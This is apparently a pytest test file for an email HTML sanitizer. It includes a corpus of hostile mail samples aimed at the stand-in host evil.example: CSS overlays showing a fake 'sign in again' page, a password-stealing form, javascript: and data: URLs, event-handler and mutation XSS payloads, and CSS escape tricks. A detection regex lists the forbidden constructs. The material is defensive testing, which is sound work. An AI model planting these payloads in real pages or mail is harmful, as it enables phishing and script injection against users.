"""The sanitizer against hostile mail: scripts, and CSS that would draw over the console (a
fake "sign in again" page). Each case is also rendered in Chromium by
tests/agent_ui/test_sanitizer_browser.py, which checks that nothing leaves the message box."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tresen.html import harmless_style, sanitize_html

# Everything hostile points at evil.example: the browser test counts requests there.
SIGN_IN_AGAIN = (
    "<h1>Session expired</h1><p>Please sign in again.</p>"
    '<a href="https://evil.example/login">Sign in</a>'
)
CORPUS = {
    # CSS that places, stacks or moves a box out of the message
    "fixed overlay": (
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;'
        f'background:#fff">{SIGN_IN_AGAIN}</div>'
    ),
    "absolute overlay": (
        '<div style="position:absolute;top:-400px;left:-400px;width:3000px;height:3000px;'
        f'z-index:99999;background:#fff">{SIGN_IN_AGAIN}</div>'
    ),
    "inset and sticky": (
        '<div style="position:sticky;inset:0;z-index:9;background:red">x</div>'
        '<div style="position : FIXED ; inset : 0 ; z-index : 9 ; background : red">y</div>'
    ),
    "important": '<div style="position:fixed !important;top:0 !important;z-index:9">x</div>',
    "negative margins": (
        '<div style="margin-top:-3000px;margin-left:-3000px;height:40px;background:red">x</div>'
        '<p style="margin:-500px 0 0 -500px;text-indent:-9999px">y</p>'
    ),
    "huge sizes": (
        '<table style="width:100000px;height:100000px"><tr><td>x</td></tr></table>'
        '<img src="cid:logo" width="99999" height="99999" alt="logo">'
        '<p style="font-size:9999px;line-height:9999px;padding:99999px">y</p>'
    ),
    "viewport and calc sizes": (
        '<div style="width:calc(100vw + 9999px);height:100vh;min-width:var(--x)">x</div>'
    ),
    "transforms": (
        '<div style="transform:translate(-5000px,-5000px) scale(50);background:red">x</div>'
        '<div style="translate:-5000px -5000px;scale:50;rotate:180deg">y</div>'
    ),
    "css import": '<style>@import url("https://evil.example/a.css");</style><p>x</p>',
    "style block": (
        "<style>body{display:none} .message{position:fixed;inset:0;z-index:9}"
        "*{background:url(https://evil.example/t.png)}</style><p>x</p>"
    ),
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/a.css"><p>x</p>',
    "svg foreignObject": (
        '<svg width="5000" height="5000" style="position:fixed;top:0;left:0;z-index:9">'
        '<foreignObject width="5000" height="5000"><div xmlns="http://www.w3.org/1999/xhtml"'
        ' style="position:fixed;inset:0;background:red">x</div></foreignObject>'
        '<a href="javascript:window.__pwned=1"><rect width="5000" height="5000"/></a></svg>'
    ),
    "form phishing": (
        '<form action="https://evil.example/steal" method="post"><label>Password'
        ' <input type="password" name="password"></label><input type="hidden" name="x"'
        ' value="y"><button type="submit" formaction="https://evil.example/2">Sign in</button>'
        '<select name="s"><option>a</option></select><textarea name="t">z</textarea></form>'
    ),
    "javascript urls": (
        '<a href="javascript:window.__pwned=1">a</a>'
        '<a href="jav&#x09;ascript:window.__pwned=1">b</a>'
        '<a href=" JaVaScRiPt:window.__pwned=1">c</a>'
        '<img src="javascript:window.__pwned=1" alt="d">'
    ),
    "data urls": (
        '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+">a</a>'
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'"
        ' onload=\'window.__pwned=1\'/>" alt="b">'
        '<div style="background:url(data:image/png;base64,AAAA)">c</div>'
    ),
    "css escapes": (
        '<div style="posi\\tion:fixed;top:0;z-index:9">a</div>'
        '<div style="\\70 osition:fixed;top:0">b</div>'
        '<div style="position\\:fixed">c</div>'
        '<div style="position&#58;fixed;top&colon;0">d</div>'
        '<div style="color:\\72 ed;background:u\\72 l(https://evil.example/e.png)">e</div>'
    ),
    "css comments": (
        '<div style="position/**/:fixed;top:0;z-index:9">a</div>'
        '<div style="color:red/*;*/;position:fixed;top:0">b</div>'
        '<div style="/*x*/position:fixed;/**/top:0">c</div>'
    ),
    "css functions": (
        '<div style="width:expression(window.__pwned=1);behavior:url(https://evil.example/x.htc)'
        ";-moz-binding:url(https://evil.example/x.xml#x);background-image:image-set("
        '"https://evil.example/i.png" 1x)">x</div>'
    ),
    "content and counters": (
        "<p style=\"content:'Sign in';display:contents;all:unset;clip-path:none\">x</p>"
    ),
    "scripts": (
        "<script>window.__pwned=1</script>"
        '<img src="cid:x" onerror="window.__pwned=1" alt="a">'
        '<body onload="window.__pwned=1"><p onclick="window.__pwned=1">b</p>'
        '<details open ontoggle="window.__pwned=1"><summary>c</summary></details>'
    ),
    "frames and objects": (
        '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'
        '<iframe src="https://evil.example/f"></iframe>'
        '<object data="https://evil.example/o.swf"></object>'
        '<embed src="https://evil.example/e.swf">'
    ),
    "meta and base": (
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
        '<base href="https://evil.example/"><a href="/relative">x</a>'
    ),
    "mutation xss": (
        '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>'
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>"
        "</style></mglyph></table></mtext></math>"
        '<svg><style><img src=x onerror="window.__pwned=1"></style></svg>'
    ),
}
# Made in a mail program: what the sanitizer must keep so mail still looks like mail.
NEWSLETTER = (
    '<table style="width:100%;max-width:600px;border-collapse:collapse" role="presentation">'
    '<tr><td style="padding:12px 16px;background-color:#f4f4f4;border:1px solid #dddddd;'
    "font-family:'Segoe UI', Arial, sans-serif;font-size:14px;line-height:1.5;"
    'color:rgb(34, 34, 34);text-align:left;vertical-align:top">'
    '<p style="margin:0 0 8px;font-weight:bold;text-decoration:underline">Hallo Karl,</p>'
    '<ul style="list-style-type:square;padding-left:20px"><li>eins</li></ul>'
    '<span style="display:none;white-space:nowrap">Vorschau</span>'
    "</td></tr></table>"
)

FORBIDDEN = re.compile(
    r"<script|<style|<link|<svg|<math|<form|<input|<button|<select|<textarea|<iframe|<object"
    r"|<embed|<meta|<base|<foreignobject|\son\w+=|javascript:|data:|position|z-index|inset"
    r"|transform|translate|scale|rotate|@import|url\(|expression|behavior|binding|image-set"
    r"|calc\(|var\(|vw|vh|content:|contents|all:|\\|/\*|-\d|:\s*-",
    re.IGNORECASE,
)


@pytest.mark.parametrize("name", CORPUS)
def test_hostile_mail_keeps_nothing_that_runs_or_leaves_its_box(name):
    clean = sanitize_html(CORPUS[name])
    assert FORBIDDEN.search(clean) is None, clean
    assert sanitize_html(clean) == clean  # a second pass finds nothing more to take


def test_overlay_styles_lose_their_placing_and_keep_their_dress():
    clean = sanitize_html(CORPUS["fixed overlay"])
    assert clean.startswith('<div style="background:#fff"><h1>Session expired</h1>')
    assert sanitize_html(CORPUS["huge sizes"]).count("99999") == 0
    assert '<img src="cid:logo" alt="logo">' in sanitize_html(CORPUS["huge sizes"])


def test_ordinary_mail_styles_are_kept():
    clean = html.unescape(sanitize_html(NEWSLETTER))
    for kept in (
        "width:100%",
        "max-width:600px",
        "border-collapse:collapse",
        "padding:12px 16px",
        "background-color:#f4f4f4",
        "border:1px solid #dddddd",
        'font-family:"Segoe UI" , Arial , sans-serif',  # as nh3 writes it out again
        "font-size:14px",
        "line-height:1.5",
        "color:rgb(34, 34, 34)",
        "text-align:left",
        "vertical-align:top",
        "margin:0 0 8px",
        "font-weight:bold",
        "text-decoration:underline",
        "list-style-type:square",
        "display:none",
        "white-space:nowrap",
    ):
        assert kept in clean, kept


@pytest.mark.parametrize(
    "style, kept",
    [
        ("color: red; position: fixed", "color:red"),
        ("COLOR: Blue !important", "color:Blue"),
        ("margin: 0 auto; margin-left: -20px", "margin:0 auto"),
        ("font: 12px/1.4 Arial", "font:12px/1.4 Arial"),
        ("width: 2000px; height: 2001px", "width:2000px"),
        ("display: block; display: fixed; float: left", "display:block;float:left"),
        ("border: 1px solid rgba(0,0,0,.5)", "border:1px solid rgba(0,0,0,.5)"),
        ('font-family: "a;position:fixed"', ""),
        ("color:#fff;x:y;;;", "color:#fff"),
        ("background: red url(https://evil.example/t.png)", ""),
        ("width: 1e9px", ""),
    ],
)
def test_harmless_style_keeps_only_plain_declarations(style, kept):
    assert harmless_style(style) == kept


_CSS_ALPHABET = st.sampled_from(
    [*"abcdefghilmnoprstuxz0123456789 :;,.-#!%()/\\*'\"@&<>", "position", "fixed", "z-index"]
    + ["top", "url(", "expression(", "px", "margin", "color", "width", "\\70", "/**/", "\t"]
)


@settings(max_examples=500, deadline=None)
@given(st.lists(_CSS_ALPHABET, max_size=40).map("".join))
def test_any_style_becomes_allowlisted_plain_declarations(style):
    kept = harmless_style(style)
    for declaration in filter(None, kept.split(";")):
        name, _, value = declaration.partition(":")
        assert name in _allowed()
        assert re.search(r"\(|\\|/\*|-\d|^-|\s-|url|expression|[<>&;]", value) is None or (
            re.fullmatch(r"(?:rgba?|hsla?)\([0-9.%, /]*\)", value.strip())
        ), declaration
    assert "position" not in kept and "z-index" not in kept


def _allowed() -> set[str]:
    from tresen.html import _STYLE_PROPERTIES

    return _STYLE_PROPERTIES
